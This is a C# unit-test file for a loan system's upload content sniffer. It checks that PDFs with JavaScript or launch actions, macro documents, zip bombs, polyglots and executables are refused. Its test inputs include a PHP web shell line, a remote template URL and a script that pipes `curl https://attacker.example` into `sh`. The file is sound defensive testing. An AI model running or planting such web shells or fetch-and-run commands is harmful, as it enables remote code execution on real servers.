using System.Text;
using Loans.Application.Documents;

namespace Loans.Tests.Documents;

/// <summary>What the sniffer makes of real and hostile files, each built in the test.</summary>
public sealed class ContentSnifferTests
{
    private static readonly ContentSniffer Sniffer = new();

    private static string Sniff(byte[] content, ContentSniffer? sniffer = null)
    {
        using var stream = new MemoryStream(content, writable: false);
        var outcome = (sniffer ?? Sniffer).Sniff(stream);
        Assert.That(stream.Position, Is.Zero, "the stream is left at the start for the store");
        return outcome.IsAccepted ? outcome.Value : outcome.Refusal!.Code;
    }

    private static byte[] Ascii(string text) => Encoding.Latin1.GetBytes(text);

    [Test]
    public void Pdf_IsAccepted() => Assert.That(Sniff(DocumentSamples.Pdf()), Is.EqualTo(DocumentTypes.Pdf));

    [TestCase("<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>")]
    [TestCase("<< /JS (app.alert(1)) >>")]
    [TestCase("<< /Type /Action /S /J#61vaScript /JS (app.alert(1)) >>")]
    [TestCase("<< /Type /Action /S /Launch /F (cmd.exe) >>")]
    [TestCase("<< /Type /Filespec /EF << /F 6 0 R >> /Type/EmbeddedFile >>")]
    [TestCase("<< /Type /Annot /Subtype /RichMedia >>")]
    [TestCase("<< /AcroForm << /XFA 6 0 R >> >>")]
    [TestCase("<</S/JavaScript/JS(x)>>")]
    public void Pdf_WithActiveContent_IsRefused(string action) =>
        Assert.That(Sniff(DocumentSamples.Pdf(action)), Is.EqualTo("document.active_content"));

    [TestCase("<< /JSomething 1 /Launcher 2 /XFAX 3 /JavaScripts 4 >>")]
    [TestCase("<< /Title (JavaScript) >>")]
    public void Pdf_WithNamesThatOnlyStartLikeActiveOnes_IsAccepted(string dictionary) =>
        Assert.That(Sniff(DocumentSamples.Pdf(dictionary)), Is.EqualTo(DocumentTypes.Pdf));

    [Test]
    public void Pdf_WithJsBytesInsideStreamData_IsAccepted_ButJavaScriptThereIsNot()
    {
        Assert.That(Sniff(DocumentSamples.Pdf(streamContent: "\x01\x9c/JS \x02\x03")), Is.EqualTo(DocumentTypes.Pdf));
        Assert.That(Sniff(DocumentSamples.Pdf(streamContent: "x endstre 6 0 obj << /S /JavaScript >>")), Is.EqualTo("document.active_content"));
    }

    [Test]
    public void Pdf_WithoutEofMarker_IsCorrupt()
    {
        var pdf = DocumentSamples.Pdf();
        Assert.That(Sniff(pdf[..^7]), Is.EqualTo("document.corrupt"));
    }

    [Test]
    public void Pdf_WithZipAppended_IsPolyglot()
    {
        var zip = DocumentSamples.Zip(new Dictionary<string, byte[]> { ["payload.txt"] = "hello"u8.ToArray() });
        Assert.That(Sniff(DocumentSamples.Concat(DocumentSamples.Pdf(), zip)), Is.EqualTo("document.polyglot"));
        // The archive inside the PDF, before its end marker: PDF readers and ZIP readers both open it.
        Assert.That(Sniff(DocumentSamples.Concat(DocumentSamples.Pdf()[..^6], zip, Ascii("\n%%EOF\n"))), Is.EqualTo("document.polyglot"));
    }

    [Test]
    public void Docx_IsAccepted() => Assert.That(Sniff(DocumentSamples.Docx()), Is.EqualTo(DocumentTypes.Docx));

    [Test]
    public void Docx_WithALargeButOrdinaryPart_IsAccepted()
    {
        var random = new Random(7);
        var letters = Enumerable.Range(0, 3 * 1024 * 1024).Select(_ => (byte)random.Next('a', 'z' + 1)).ToArray();
        var docx = DocumentSamples.Docx(extraParts: new Dictionary<string, byte[]> { ["word/media/scan.bin"] = letters });

        Assert.That(Sniff(docx), Is.EqualTo(DocumentTypes.Docx));
    }

    [Test]
    public void Docm_IsRefusedForMacros()
    {
        var docm = DocumentSamples.Docx(DocumentSamples.DocmMainType, new Dictionary<string, byte[]> { ["word/vbaProject.bin"] = [0xD0, 0xCF, 0x11, 0xE0] });
        Assert.That(Sniff(docm), Is.EqualTo("document.macros"));
    }

    [TestCase("word/vbaProject.bin")]
    [TestCase("Word/VBAPROJECT.BIN")]
    [TestCase("word/vbaData.xml")]
    [TestCase("word/activeX/activeX1.xml")]
    [TestCase("word/embeddings/oleObject1.bin")]
    public void Docx_WithAMacroPart_IsRefused(string part) =>
        Assert.That(Sniff(DocumentSamples.Docx(extraParts: new Dictionary<string, byte[]> { [part] = [1, 2, 3] })), Is.EqualTo("document.macros"));

    [Test]
    public void Docx_WithAVbaProjectUnderAnotherName_IsRefused()
    {
        var relationships = DocumentSamples.Relationships("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "media/image9.png", external: false);
        var docx = DocumentSamples.Docx(documentRelationships: relationships, extraParts: new Dictionary<string, byte[]> { ["word/media/image9.png"] = [1, 2, 3] });

        Assert.That(Sniff(docx), Is.EqualTo("document.macros"));
    }

    [Test]
    public void Docx_WithARemoteTemplate_IsRefused()
    {
        var settings = DocumentSamples.Relationships(
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", "https://attacker.example/t.dotm", external: true);
        var docx = DocumentSamples.Docx(extraParts: new Dictionary<string, byte[]> { ["word/_rels/settings.xml.rels"] = Encoding.UTF8.GetBytes(settings) });

        Assert.That(Sniff(docx), Is.EqualTo("document.active_content"));
    }

    [Test]
    public void Xlsx_RenamedAsZip_IsUnsupported() => Assert.That(Sniff(DocumentSamples.Xlsx()), Is.EqualTo("document.unsupported_type"));

    [Test]
    public void PlainZipAndJar_AreUnsupported()
    {
        Assert.That(Sniff(DocumentSamples.Zip(new Dictionary<string, byte[]> { ["notes.txt"] = "hi"u8.ToArray() })), Is.EqualTo("document.unsupported_type"));
        Assert.That(Sniff(DocumentSamples.Zip(new Dictionary<string, byte[]>
        {
            ["META-INF/MANIFEST.MF"] = "Manifest-Version: 1.0\nMain-Class: Evil\n"u8.ToArray(),
            ["Evil.class"] = [0xCA, 0xFE, 0xBA, 0xBE],
        })), Is.EqualTo("document.unsupported_type"));
    }

    [Test]
    public void Docx_WithADocmContentTypeButNoVbaPart_IsRefusedForMacros() =>
        Assert.That(Sniff(DocumentSamples.Docx(DocumentSamples.DocmMainType)), Is.EqualTo("document.macros"));

    [Test]
    public void ZipBomb_OfTwoHundredMegabytesOfZeros_IsRefused_WithoutInflatingItAll()
    {
        var bomb = DocumentSamples.DocxWithZeros(200L * 1024 * 1024);
        Assert.That(bomb, Has.Length.LessThan(2 * 1024 * 1024), "the sample itself stays small");

        var started = System.Diagnostics.Stopwatch.StartNew();
        Assert.That(Sniff(bomb), Is.EqualTo("document.zip_bomb"));
        Assert.That(started.Elapsed, Is.LessThan(TimeSpan.FromSeconds(5)), "refused as soon as a limit is crossed");
    }

    [Test]
    public void Docx_ExpandingPastTheTotalLimit_IsRefused()
    {
        // Each part is under the ratio rule's 1 MB threshold; together they are above a 2 MB total.
        var docx = DocumentSamples.DocxWithZeros(900 * 1024, copies: 3);
        var sniffer = new ContentSniffer(ZipBombLimits.Default with { MaxTotalUncompressedBytes = 2 * 1024 * 1024 });

        Assert.That(Sniff(docx), Is.EqualTo(DocumentTypes.Docx));
        Assert.That(Sniff(docx, sniffer), Is.EqualTo("document.zip_bomb"));
    }

    [Test]
    public void Docx_WithMoreThanAThousandEntries_IsRefused()
    {
        var parts = Enumerable.Range(0, 1_000).ToDictionary(i => $"word/media/p{i}.xml", _ => "<x/>"u8.ToArray());
        Assert.That(Sniff(DocumentSamples.Docx(extraParts: parts)), Is.EqualTo("document.zip_bomb"));
    }

    [Test]
    public void Docx_WithAnEncryptedEntry_IsRefused()
    {
        var docx = DocumentSamples.Docx();
        var central = docx.AsSpan().IndexOf("PK\x01\x02"u8);
        docx[central + 8] |= 1;

        Assert.That(Sniff(docx), Is.EqualTo("document.unsupported_type"));
    }

    [Test]
    public void Docx_WithBytesAfterTheArchive_IsPolyglot() =>
        Assert.That(Sniff(DocumentSamples.Concat(DocumentSamples.Docx(), Ascii("<script>alert(1)</script>"))), Is.EqualTo("document.polyglot"));

    [Test]
    public void Docx_WithADamagedPart_IsCorrupt()
    {
        var docx = DocumentSamples.Docx();
        var data = docx.AsSpan().IndexOf("word/document.xml"u8) + "word/document.xml".Length + 4;
        docx[data] ^= 0xFF;

        Assert.That(Sniff(docx), Is.EqualTo("document.corrupt"));
    }

    [Test]
    public void Png_IsAccepted() => Assert.That(Sniff(DocumentSamples.Png()), Is.EqualTo(DocumentTypes.Png));

    [Test]
    public void Png_WithZipOrAnythingAfterIend_IsPolyglot()
    {
        var zip = DocumentSamples.Zip(new Dictionary<string, byte[]> { ["run.sh"] = "#!/bin/sh"u8.ToArray() });
        Assert.That(Sniff(DocumentSamples.Concat(DocumentSamples.Png(), zip)), Is.EqualTo("document.polyglot"));
        Assert.That(Sniff(DocumentSamples.Concat(DocumentSamples.Png(), Ascii("<?php system($_GET['c']); ?>"))), Is.EqualTo("document.polyglot"));
    }

    [Test]
    public void Png_TruncatedOrWithABrokenChunk_IsCorrupt()
    {
        var png = DocumentSamples.Png();
        Assert.That(Sniff(png[..^12]), Is.EqualTo("document.corrupt"));

        png[12] = (byte)'1';
        Assert.That(Sniff(png), Is.EqualTo("document.corrupt"));
    }

    [Test]
    public void Jpeg_IsAccepted_WithOrWithoutZeroPadding()
    {
        Assert.That(Sniff(DocumentSamples.Jpeg()), Is.EqualTo(DocumentTypes.Jpeg));
        Assert.That(Sniff(DocumentSamples.Concat(DocumentSamples.Jpeg(), new byte[16])), Is.EqualTo(DocumentTypes.Jpeg));
    }

    [Test]
    public void Jpeg_WithSomethingAfterTheImage_IsPolyglot()
    {
        var jpeg = DocumentSamples.Jpeg();
        var zip = DocumentSamples.Zip(new Dictionary<string, byte[]> { ["a.txt"] = "a"u8.ToArray() });
        Assert.That(Sniff(DocumentSamples.Concat(jpeg, zip)), Is.EqualTo("document.polyglot"));
        Assert.That(Sniff(DocumentSamples.Concat(jpeg, new byte[17])), Is.EqualTo("document.polyglot"));
        // Appended data that itself ends like a JPEG still follows the real end of the image.
        Assert.That(Sniff(DocumentSamples.Concat(jpeg, Ascii("<html>"), [0xFF, 0xD9])), Is.EqualTo("document.polyglot"));
    }

    [Test]
    public void Jpeg_Truncated_IsCorrupt() => Assert.That(Sniff(DocumentSamples.Jpeg()[..^2]), Is.EqualTo("document.corrupt"));

    [TestCase(new byte[] { (byte)'M', (byte)'Z', 0x90, 0x00, 0x03, 0x00, 0x00, 0x00 })]
    [TestCase(new byte[] { 0x7F, (byte)'E', (byte)'L', (byte)'F', 0x02, 0x01, 0x01, 0x00 })]
    [TestCase(new byte[] { 0xCF, 0xFA, 0xED, 0xFE, 0x07, 0x00, 0x00, 0x01 })]
    [TestCase(new byte[] { 0xFE, 0xED, 0xFA, 0xCE, 0x00, 0x00, 0x00, 0x07 })]
    [TestCase(new byte[] { 0xCA, 0xFE, 0xBA, 0xBE, 0x00, 0x00, 0x00, 0x02 })]
    public void Executables_AreRefused(byte[] header) =>
        Assert.That(Sniff(DocumentSamples.Concat(header, new byte[512], Ascii("%PDF-1.7 %%EOF"))), Is.EqualTo("document.executable"));

    [Test]
    public void ShebangScript_IsRefused_ThoughItIsValidText() =>
        Assert.That(Sniff(Encoding.UTF8.GetBytes("#!/bin/sh\ncurl https://attacker.example | sh\n")), Is.EqualTo("document.executable"));

    [Test]
    public void Utf8Text_IsAccepted_WithOrWithoutByteOrderMark()
    {
        var text = "Loan 42: terms agreed.\r\n\tRate 4.5 %, fee € 120; Zoë Müller signed — 日本.\f\n";
        Assert.That(Sniff(Encoding.UTF8.GetBytes(text)), Is.EqualTo(DocumentTypes.PlainText));
        Assert.That(Sniff(DocumentSamples.Concat([0xEF, 0xBB, 0xBF], Encoding.UTF8.GetBytes(text))), Is.EqualTo(DocumentTypes.PlainText));
    }

    [Test]
    public void Utf8Text_WithACharacterAcrossTheReadBuffer_IsAccepted()
    {
        var text = new string('a', UploadSpool.BufferSize - 1) + "é and more";
        Assert.That(Sniff(Encoding.UTF8.GetBytes(text)), Is.EqualTo(DocumentTypes.PlainText));
    }

    [Test]
    public void Latin1Text_IsUnsupported() =>
        Assert.That(Sniff(Encoding.Latin1.GetBytes("Caf\u00e9 cr\u00e8me, sign\u00e9")), Is.EqualTo("document.unsupported_type"));

    [TestCase("text with a NUL\0 in it")]
    [TestCase("text with an escape \u001b[31m")]
    [TestCase("text cut inside a character \u00e9")]
    [TestCase(" \r\n\t ")]
    [TestCase("")]
    public void TextThatIsNotClean_IsUnsupported(string text)
    {
        var bytes = Encoding.UTF8.GetBytes(text);
        if (text.StartsWith("text cut", StringComparison.Ordinal))
        {
            bytes = bytes[..^1];
        }

        Assert.That(Sniff(bytes), Is.EqualTo("document.unsupported_type"));
    }

    [Test]
    public void TextWithAPdfHeaderInItsFirstKilobyte_IsPolyglot() =>
        Assert.That(Sniff(Encoding.UTF8.GetBytes("notes\n%PDF-1.4\n1 0 obj << >> endobj\n%%EOF\n")), Is.EqualTo("document.polyglot"));

    [Test]
    public void OtherFormats_AreUnsupported()
    {
        Assert.That(Sniff(DocumentSamples.Concat(Ascii("GIF89a"), [1, 0, 1, 0, 0x80, 0, 0, 0xFF, 0xFF, 0xFF, 0, 0, 0, 0x3B])), Is.EqualTo("document.unsupported_type"));
        Assert.That(Sniff(DocumentSamples.Concat(Ascii("<html><body>"), [0x00, 0xFF, 0xFE], Ascii("</body></html>"))), Is.EqualTo("document.unsupported_type"));
        var random = new byte[4096];
        new Random(3).NextBytes(random);
        random[0] = 0x00;
        Assert.That(Sniff(random), Is.EqualTo("document.unsupported_type"));
    }
}
